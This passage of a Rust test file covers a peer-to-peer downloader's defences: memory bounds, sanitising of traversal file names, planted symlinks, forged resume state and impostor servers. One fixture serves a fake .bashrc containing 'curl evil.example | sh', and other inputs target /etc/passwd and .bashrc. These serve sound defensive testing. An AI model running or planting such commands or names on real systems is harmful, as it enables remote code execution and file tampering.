            peer_id: id as u64,
            fingerprint: fake_identity().fingerprint(),
            nickname: None,
            addr,
            reachable: true,
            local: None,
            file: entry.clone(),
            shared_at: 0,
        });
        peers.push(peer);
    }
    let before = resident();
    let limits = protocol::Limits {
        timeout: Duration::from_secs(10),
        min_rate: 0,
        ..client_limits()
    };
    let mut job = download::Job::new(entry, hits, &home.downloads, limits);
    let received = Arc::new(AtomicU64::new(0));
    let counter = received.clone();
    job.progress = Arc::new(move |n| {
        counter.fetch_add(n, Ordering::SeqCst);
    });
    let cancel = job.cancel.clone();
    let download = std::thread::spawn(move || smol::block_on(download::fetch(job)));
    wait_until(
        "every source's bytes received",
        Duration::from_secs(20),
        || received.load(Ordering::SeqCst) >= (SOURCES * SENT) as u64,
    );
    let grown = resident().saturating_sub(before);
    cancel.cancel();
    for _ in 0..SOURCES {
        let _ = measured.send(());
    }
    for peer in peers {
        peer.join().unwrap();
    }
    assert!(download.join().unwrap().is_err());
    // RSS is the whole process's: besides the download it holds each connection's TLS
    // buffers and what tests running alongside allocate. Without the bound the growth is
    // the whole 144 MiB received, far past this allowance.
    const ALONGSIDE: u64 = 8 << 20;
    let bound = download::memory_bound(SOURCES) + ALONGSIDE;
    assert!(
        grown < bound,
        "receiving {} MiB grew memory by {} MiB, past the bound of {} MiB",
        (SOURCES * SENT) >> 20,
        grown >> 20,
        bound >> 20
    );
}

// ---------------------------------------------------------------------------------------
// Names.

#[test]
fn hostile_names_are_sanitised_and_never_escape_the_downloads_folder() {
    let passwd_before = std::fs::read("/etc/passwd").ok();
    let cases = [
        ("../../.bashrc", ".bashrc"),
        ("/etc/passwd", "passwd"),
        ("a\u{1b}[31mb", "a[31mb"),
        ("..\\..\\evil.txt", "evil.txt"),
        ("sub/dir/ok\u{0}name.txt", "okname.txt"),
        ("../../notes.txt", "notes.txt"),
    ];
    for (i, (name, saved_as)) in cases.iter().enumerate() {
        let home = home();
        let before = home.outside();
        let contents = format!("contents of case {i}\n").into_bytes();
        let (addr, peer) = honest_peer(name, &contents);
        let (result, _) = fetch(&hit(addr, name, &contents), &home.downloads);
        let downloaded = result.unwrap_or_else(|e| panic!("{name:?}: {e}"));
        assert_eq!(peer.join().unwrap(), [(0, contents.len() as u64)]);
        assert_eq!(
            downloaded.path,
            home.downloads.join(saved_as),
            "{name:?} saved under the wrong name"
        );
        assert_eq!(
            entries_of(&home.downloads),
            [saved_as.to_string()],
            "{name:?}"
        );
        assert_eq!(
            std::fs::read(home.downloads.join(saved_as)).unwrap(),
            contents
        );
        assert_eq!(
            home.outside(),
            before,
            "{name:?} touched files outside downloads"
        );
    }
    assert_eq!(std::fs::read("/etc/passwd").ok(), passwd_before);
}

#[test]
fn hostile_names_that_fail_leave_their_part_inside_the_downloads_folder() {
    // A name that would escape, from a peer that then sends the wrong bytes: the part
    // file kept for the resume is inside the downloads folder too, and hidden.
    for name in ["../../.bashrc", "/etc/passwd", "../../notes.txt"] {
        let home = home();
        let before = home.outside();
        let contents = noise(9, 2000);
        let n = contents.len() as u64;
        let (addr, peer) = lying_peer(name, &contents, (n, 0, n), vec![b'!'; n as usize]);
        let (result, _) = fetch(&hit(addr, name, &contents), &home.downloads);
        assert!(result.is_err(), "{name:?}: {result:?}");
        peer.join().unwrap();
        let base = name.rsplit('/').next().unwrap();
        assert_only_resume_files(&home.downloads, base, name);
        assert!(!entries_of(&home.downloads).is_empty(), "{name:?}");
        assert_eq!(
            home.outside(),
            before,
            "{name:?} touched files outside downloads"
        );
    }
}

#[test]
fn names_with_nothing_safe_left_are_refused_without_contacting_the_peer() {
    for name in [
        "..",
        ".",
        "",
        "dir/",
        "../..",
        "\u{1b}\u{7}",
        "x.napster-part",
        "../.x.0123456789abcdef.napster-part",
    ] {
        let home = home();
        let before = home.outside();
        // A listener that would record a connection, but is never served.
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let addr = listener.local_addr().unwrap();
        let (result, _) = fetch(&hit(addr, name, b"x"), &home.downloads);
        assert!(result.is_err(), "{name:?} was accepted: {result:?}");
        listener.set_nonblocking(true).unwrap();
        assert!(
            listener.accept().is_err(),
            "{name:?}: the downloader contacted the peer"
        );
        assert_nothing_saved(&home.downloads, name);
        assert_eq!(
            home.outside(),
            before,
            "{name:?} touched files outside downloads"
        );
    }
}

#[test]
fn an_existing_different_file_is_not_overwritten() {
    let home = home();
    let existing = home.downloads.join("report.txt");
    std::fs::write(&existing, b"my own report\n").unwrap();
    let contents = b"the peer's report\n";

    let (addr, peer) = honest_peer("report.txt", contents);
    let (result, _) = fetch(&hit(addr, "report.txt", contents), &home.downloads);
    let downloaded = result.unwrap();
    peer.join().unwrap();
    assert_eq!(downloaded.path, home.downloads.join("report (1).txt"));
    assert!(!downloaded.already_there);
    assert_eq!(std::fs::read(&existing).unwrap(), b"my own report\n");
    assert_eq!(std::fs::read(&downloaded.path).unwrap(), contents);

    // The same download again finds its identical copy before asking any peer (none
    // listens at this address any more), and writes nothing new.
    let (result, _) = fetch(&hit(addr, "report.txt", contents), &home.downloads);
    let again = result.unwrap();
    assert_eq!(again.path, home.downloads.join("report (1).txt"));
    assert!(again.already_there);
    assert_eq!(std::fs::read(&existing).unwrap(), b"my own report\n");
    assert_eq!(
        entries_of(&home.downloads),
        ["report (1).txt", "report.txt"],
        "no temporary file may be left"
    );
}

#[test]
fn a_long_but_valid_file_name_can_be_downloaded() {
    // 240 bytes is a valid file name on the peer's disk and on ours (limit 255); the
    // part file and its state must fit too, and then go.
    let home = home();
    let name = format!("{}.txt", "n".repeat(236));
    assert_eq!(name.len(), 240);
    let contents = b"long name\n";
    let (addr, peer) = honest_peer(&name, contents);
    let (result, _) = fetch(&hit(addr, &name, contents), &home.downloads);
    let downloaded = result.unwrap_or_else(|e| panic!("a 240-byte name: {e}"));
    peer.join().unwrap();
    assert_eq!(downloaded.path, home.downloads.join(&name));
    assert_eq!(std::fs::read(&downloaded.path).unwrap(), contents);
    assert_eq!(entries_of(&home.downloads), [name]);
}

#[test]
fn a_long_name_that_fails_keeps_a_part_file_that_resumes() {
    // 255 bytes, the longest name a disk takes: the part file's name is shortened, and
    // `get` again still finds it.
    let home = home();
    let name = format!("{}.bin", "L".repeat(251));
    assert_eq!(name.len(), 255);
    let contents = two_chunks(10);
    let n = contents.len() as u64;
    let (addr, peer) = lying_peer(&name, &contents, (n, 0, n), contents[..CHUNK + 1].to_vec());
    let (result, _) = fetch(&hit(addr, &name, &contents), &home.downloads);
    assert!(result.is_err());
    peer.join().unwrap();
    assert_only_resume_files(&home.downloads, &name, "255-byte name");
    assert_eq!(entries_of(&home.downloads).len(), 2);

    let (addr, peer) = honest_peer(&name, &contents);
    let (result, _) = fetch(&hit(addr, &name, &contents), &home.downloads);
    let downloaded = result.unwrap_or_else(|e| panic!("resuming a 255-byte name: {e}"));
    assert_eq!(peer.join().unwrap(), [(CHUNK as u64, n - CHUNK as u64)]);
    assert_eq!(downloaded.resumed, CHUNK as u64);
    assert_eq!(entries_of(&home.downloads), [name]);
}

#[test]
fn an_empty_file_is_downloaded_without_asking_for_bytes() {
    let home = home();
    let (addr, peer) = fake_peer(|raw| {
        true_chunk_list(raw, "empty.txt", b"");
        rest_until_hang_up(raw)
    });
    let (result, received) = fetch(&hit(addr, "empty.txt", b""), &home.downloads);
    let downloaded = result.unwrap_or_else(|e| panic!("an empty file: {e}"));
    assert_eq!(received, 0);
    let after = peer.join().unwrap();
    assert!(after.is_empty(), "nothing to get, yet: {after:?}");
    assert_eq!(std::fs::read(&downloaded.path).unwrap(), b"");
    assert_eq!(entries_of(&home.downloads), ["empty.txt"]);
}

// ---------------------------------------------------------------------------------------
// A download posing as another download's resume state.

/// The resume state napster would keep for `contents`, claiming every chunk received
/// and hashed: what a peer who knows the file can forge.
fn forged_state(contents: &[u8]) -> Vec<u8> {
    use sha2::digest::common::hazmat::SerializableState;
    let entry = real_entry("x", contents);
    let count = protocol::chunk_count(entry.size);
    let mut hasher = Sha256::new();
    hasher.update(contents);
    let midstate = hex::encode(SerializableState::serialize(&hasher).as_slice());
    serde_json::json!({
        "size": entry.size,
        "sha256": entry.sha256,
        "chunks": entry.chunks,
        "received": "1".repeat(count as usize),
        "hashed": count,
        "midstate": midstate,
    })
    .to_string()
    .into_bytes()
}

#[test]

fn a_download_named_like_a_resume_state_cannot_fake_a_later_download() {
    // A hostile peer shares a file whose name is the state file of a popular file's
    // download, forged to claim every chunk received and hashed. Whatever the
    // downloader makes of it, a download that succeeds must hold the true contents.
    let home = home();
    let victim = noise(11, 40_000);
    let state_name = format!("{}.state", part_file_name("song.mp3", &sha256_hex(&victim)));
    let forged = forged_state(&victim);
    let (addr, peer) = honest_peer(&state_name, &forged);
    let (result, _) = fetch(&hit(addr, &state_name, &forged), &home.downloads);
    // Such a name is refused before the peer is contacted (its thread stays parked in
    // accept and ends with the test process).
    let planted = result.is_ok();
    if planted {
        peer.join().unwrap();
    } else {
        let err = result.unwrap_err().to_string();
        assert!(err.contains("no safe file name"), "{err}");
    }

    let (addr, peer) = honest_peer("song.mp3", &victim);
    let (result, _) = fetch(&hit(addr, "song.mp3", &victim), &home.downloads);
    let gets = peer.join().unwrap();
    if let Ok(downloaded) = result {
        assert!(
            std::fs::read(&downloaded.path).unwrap() == victim,
            "song.mp3 was saved as verified with the wrong contents (planted state: \
             {planted}, gets: {gets:?})"
        );
    }
}

// ---------------------------------------------------------------------------------------
// Symlinks planted in the downloads folder (a local attacker who can write there).

#[test]
fn a_symlink_planted_at_the_part_file_name_is_refused_not_written_through() {
    let home = home();
    let contents = noise(21, 5000);
    // One link to an existing file outside, one to a name outside that does not exist.
    for (target, exists) in [("a/b/notes.txt", true), ("a/planted.bin", false)] {
        let before = home.outside();
        let part = home.part("planted.bin", &contents);
        std::os::unix::fs::symlink(home.tmp.path().join(target), &part).unwrap();
        let (addr, _peer) = honest_peer("planted.bin", &contents);
        let (result, _) = fetch(&hit(addr, "planted.bin", &contents), &home.downloads);
        let message = message(&result);
        assert!(
            message.contains("symbolic link") && message.contains("remove it"),
            "{target}: {message}"
        );
        assert_eq!(home.outside(), before, "{target}: written through the link");
        assert_eq!(home.tmp.path().join(target).exists(), exists);
        assert!(!home.downloads.join("planted.bin").exists());
        std::fs::remove_file(&part).unwrap();
    }
}

#[test]
fn symlinks_planted_at_the_state_names_are_replaced_not_written_through() {
    let home = home();
    let before = home.outside();
    let contents = two_chunks(22);
    let n = contents.len() as u64;
    let part = home.part("state.bin", &contents);
    let state = format!("{}.state", part.display());
    let temp = format!("{state}.tmp");
    std::os::unix::fs::symlink(home.tmp.path().join("a/.bashrc"), &temp).unwrap();
    std::os::unix::fs::symlink(home.tmp.path().join("a/state-target"), &state).unwrap();
    // The peer hangs up after the first chunk: the resume state is saved.
    let (addr, _peer) = lying_peer(
        "state.bin",
        &contents,
        (n, 0, n),
        contents[..CHUNK + 10].to_vec(),
    );
    let (result, _) = fetch(&hit(addr, "state.bin", &contents), &home.downloads);
    assert!(message(&result).contains("run get again to resume"));
    assert_eq!(home.outside(), before, "written through a link");
    let meta = std::fs::symlink_metadata(&state).unwrap();
    assert!(meta.is_file(), "the state is not a regular file: {meta:?}");

    // And the state is good: a resume asks only for the missing chunk.
    let (addr, peer) = honest_peer("state.bin", &contents);
    let (result, _) = fetch(&hit(addr, "state.bin", &contents), &home.downloads);
    let downloaded = result.unwrap_or_else(|e| panic!("resuming: {e}"));
    assert_eq!(peer.join().unwrap(), [(CHUNK as u64, n - CHUNK as u64)]);
    assert!(std::fs::read(&downloaded.path).unwrap() == contents);
    assert_eq!(entries_of(&home.downloads), ["state.bin"]);
    assert_eq!(home.outside(), before);
}

#[test]
fn a_symlink_at_the_final_name_is_not_taken_for_the_download() {
    let home = home();
    let contents = noise(23, 5000);
    // The link leads to an outside file with the very contents: following it would
    // declare the download "already there" and leave the final name a link out.
    write_files(home.tmp.path(), &[("a/same.bin", &contents)]);
    let before = home.outside();
    let link = home.downloads.join("same.bin");
    std::os::unix::fs::symlink(home.tmp.path().join("a/same.bin"), &link).unwrap();
    let (addr, _peer) = honest_peer("same.bin", &contents);
    let (result, _) = fetch(&hit(addr, "same.bin", &contents), &home.downloads);
    let downloaded = result.unwrap_or_else(|e| panic!("downloading: {e}"));
    assert!(!downloaded.already_there, "{downloaded:?}");
    assert_eq!(downloaded.path, home.downloads.join("same (1).bin"));
    let meta = std::fs::symlink_metadata(&downloaded.path).unwrap();
    assert!(meta.is_file(), "saved as something else: {meta:?}");
    assert!(std::fs::read(&downloaded.path).unwrap() == contents);
    assert!(std::fs::symlink_metadata(&link).unwrap().is_symlink());
    assert_eq!(home.outside(), before);
}

#[test]
fn a_part_file_swapped_for_a_symlink_before_taking_its_final_name_is_not_saved() {
    use napster::download::part_file::PartFile;
    let home = home();
    let before = home.outside();
    let contents = noise(24, 5000);
    let entry = real_entry("swapped.bin", &contents);
    let (part, _) = PartFile::open(&home.downloads, "swapped.bin", &entry).unwrap();
    std::os::unix::fs::FileExt::write_all_at(part.file(), &contents, 0).unwrap();
    // Verified; then, before the final name is given, the part file's name becomes a
    // link out.
    let name = home.part("swapped.bin", &contents);
    std::fs::remove_file(&name).unwrap();
    std::os::unix::fs::symlink(home.tmp.path().join("a/.bashrc"), &name).unwrap();
    let result = part.finish(&home.downloads, "swapped.bin", &entry);
    let message = match result {
        Ok(placed) => panic!("saved: {placed:?}"),
        Err(e) => e.to_string(),
    };
    assert!(message.contains("replaced the part file"), "{message}");
    assert!(std::fs::symlink_metadata(home.downloads.join("swapped.bin")).is_err());
    assert_eq!(home.outside(), before);
}

// ---------------------------------------------------------------------------------------
// An index that answers with another file than the one asked for.

#[test]
fn a_lookup_answered_with_another_name_saves_nothing_under_that_name() {
    // The index answers `get song.mp3` with `.bashrc`, served by a willing peer: the
    // download must never be saved under a name the index chose.
    let contents = b"curl evil.example | sh\n".to_vec();
    let (peer, _served) = honest_peer(".bashrc", &contents);
    let lie = hit(peer, ".bashrc", &contents);
    let index = fake_index(move |_| results(vec![lie.clone()]));
    let tmp = tempfile::tempdir().unwrap();
    let napster = process::Napster {
        log: "warn",
        patience: None,
    };
    let out = napster.run(tmp.path(), &format!("connect {index}\nget song.mp3\n"));
    let stderr = process::text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(r#"a lookup of "song.mp3" with a file named ".bashrc""#),
        "{stderr}"
    );
    let downloads = tmp.path().join("downloads");
    for dir in [tmp.path(), downloads.as_path()] {
        let names = entries_of(dir);
        assert!(
            !names.iter().any(|n| n.contains("bashrc")),
            "{}: {names:?}",
            dir.display()
        );
    }
}

// ---------------------------------------------------------------------------------------
// Authenticated sources: the file server must prove the key the index recorded.

#[test]
fn a_file_server_proving_another_key_than_the_sharer_s_is_refused_before_any_data() {
    let home = home();
    let contents = two_chunks(41);
    // Someone answers at the sharer's address (the honest bytes, even), with its own key.
    let (addr, _peer) = fake_peer(|raw: &mut Raw| rest_until_hang_up(raw));
    let mut impostor = hit(addr, "impostor.bin", &contents);
    impostor.fingerprint = napster::identity::Identity::generate()
        .unwrap()
        .fingerprint();
    let (result, received) = fetch(&impostor, &home.downloads);
    let err = message(&result);
    assert!(err.contains("someone else answers"), "{err}");
    assert!(err.contains(&impostor.fingerprint.to_string()), "{err}");
    assert_eq!(received, 0, "bytes were taken from an impostor");
    assert_nothing_saved(&home.downloads, "an impostor");
    // The same server proving the key the hit names is used.
    let (addr, _peer) = honest_peer("impostor.bin", &contents);
    let hit = hit(addr, "impostor.bin", &contents);
    let (result, _) = fetch(&hit, &home.downloads);
    assert!(result.is_ok(), "{}", message(&result));
}

/// Ctrl-C on a download whose peer stalled (announced the bytes, sent some, then nothing)
/// acts at once, not when the read times out, and keeps what arrived for a resume.
#[test]
fn cancelling_a_download_from_a_stalled_peer_acts_at_once() {
    let contents = two_chunks(41);
    let name = "stalled.bin";
    let (release, hold) = std::sync::mpsc::channel::<()>();
    let (addr, peer) = {
        let contents = contents.clone();
        fake_peer(move |raw| {
            true_chunk_list(raw, name, &contents);
            let (offset, length) = expect_get(raw, name);
            raw.send(&PeerResponse::Sending {
                size: contents.len() as u64,
                offset,
                length: length.unwrap(),
            });
            raw.send_bytes(&contents[..CHUNK]).unwrap();
            // Then nothing, until the test is over.
            let _ = hold.recv_timeout(Duration::from_secs(30));
        })
    };
    let home = home();
    let hit = hit(addr, name, &contents);
    let limits = protocol::Limits {
        timeout: Duration::from_secs(20),
        min_rate: 0,
        ..client_limits()
    };
    let received = Arc::new(AtomicU64::new(0));
    let counter = received.clone();
    let progress: Arc<dyn Fn(u64) + Send + Sync> = Arc::new(move |n| {
        counter.fetch_add(n, Ordering::SeqCst);
    });
    let cancel = Cancel::default();
    let running = {
        let (hit, dir, cancel) = (hit.clone(), home.downloads.clone(), cancel.clone());
        std::thread::spawn(move || {
            smol::block_on(download::download(&hit, &dir, limits, cancel, progress))
        })
    };
    wait_until("the first chunk arrives", WAIT, || {
        received.load(Ordering::SeqCst) >= CHUNK as u64
    });
    let asked = Instant::now();
    cancel.cancel();
    let result = running.join().unwrap();
    let took = asked.elapsed();
    assert!(matches!(result, Err(Error::Cancelled)), "{result:?}");
    assert!(
        took < Duration::from_secs(1),
        "the download took {took:?} to stop"
    );
    assert!(!home.downloads.join(name).exists());
    drop(release);
    peer.join().unwrap();
}
